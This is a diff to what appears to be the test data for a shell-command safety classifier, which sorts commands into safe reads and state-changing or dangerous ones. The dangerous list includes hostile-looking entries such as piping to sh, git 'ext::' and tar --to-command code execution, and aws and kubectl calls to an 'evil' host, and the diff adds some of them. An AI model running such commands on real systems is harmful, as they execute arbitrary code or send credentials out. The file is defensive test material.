@@ -32,7 +32,7 @@ READS = [
     "ssh node-1 'df -h; uptime'", "mysql -u root -p -e 'SHOW ENGINE INNODB STATUS\\G'", "nodetool status", "etcdctl endpoint health",
     "kafka-consumer-groups.sh --bootstrap-server b:9092 --describe --group g", "rabbitmqctl list_queues name messages",
     "mongosh --quiet --eval 'rs.status()'", "nginx -T | grep upstream", "git log --oneline -10", "promtool query instant http://p:9090 up",
-    "su - postgres -c \"psql -c 'select 1'\"", "ip a s eth0", "kubectl get pods -n shop \\\n  -o wide", "tar tzf x.tgz", "git ls-remote origin",
+    "su - postgres -c \"psql -c 'select 1'\"", "ip a s eth0", "kubectl get pods -n shop \\\n  -o wide", "tar tzf x.tgz", "git ls-remote origin", "aws --profile p --region eu-west-1 ec2 describe-instances", "kubectl get pods -n $NS --selector=app=$APP",
 ]  # fmt: skip
 
 ISSUE = [
@@ -80,7 +80,7 @@ CHANGES = [
     "kafka-topics.sh --delete --list --topic x", "nodetool drain", "crontab -r", "smartctl -t long /dev/sda", "ethtool -t eth0", "jmap -dump:file=x 1",
     "jcmd 1 GC.heap_dump x", "man -P sh x", "rpm -i x", "fuser -k 80/tcp", "ls !x", "echo \"!x\"", "yq -i .a=1 x", "tar xf x", "tail -f x | sh", "fc", ". x",
     "ip link s eth0 down", "mongosh x.js --eval 'db.stats()'", "nginx -t -c /tmp/x", "haproxy -c -f /tmp/x", "ansible-inventory -i /tmp/x --list",
-    "su - postgres -c reboot", "su - postgres", "git ls-remote 'ext::sh -c x'", "tar -tf evil:x", "tar -xtf x", "tar tf x --to-command=sh", "ls 'a\nb'", "kubectl diff -f http://evil/x",
+    "su - postgres -c reboot", "su - postgres", "git ls-remote 'ext::sh -c x'", "tar -tf evil:x", "tar -xtf x", "tar tf x --to-command=sh", "sort -u$X y", "aws --endpoint-url http://evil ec2 describe-instances", "ls 'a\nb'", "kubectl diff -f http://evil/x",
 ]  # fmt: skip
 
 
